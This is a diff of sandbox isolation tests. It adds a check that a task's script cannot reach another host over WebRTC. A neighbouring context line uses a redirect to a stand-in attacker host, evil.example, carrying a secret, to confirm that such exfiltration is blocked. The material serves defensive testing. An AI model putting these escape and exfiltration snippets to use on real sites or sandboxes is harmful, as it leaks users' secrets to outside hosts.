@@ -106,6 +106,18 @@ def test_a_task_cannot_talk_to_another_host(site: Site, eve: Screen, asked_of_ev
     assert asked_of_evil == []
 
 
+def test_a_task_cannot_talk_to_another_host_by_webrtc(site: Site, eve: Screen) -> None:
+    script = """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]});
+    peer.createDataChannel('x');
+    peer.onconnectionstatechange = () => tell(peer.connectionState);
+    const begun = peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+    begun.then(() => tell('begun'), () => tell('refused'));
+    """
+    show(site, eve, f"try {{ {script} }} catch (error) {{ tell('refused') }}")
+
+    assert outcome(eve) in ("refused", "failed", "closed")
+
+
 def test_a_task_cannot_lead_its_frame_to_another_host(site: Site, eve: Screen, asked_of_evil: list[str]) -> None:
     offer(site, "location.href = 'https://evil.example/?secret'")
     eve.page.goto("/")
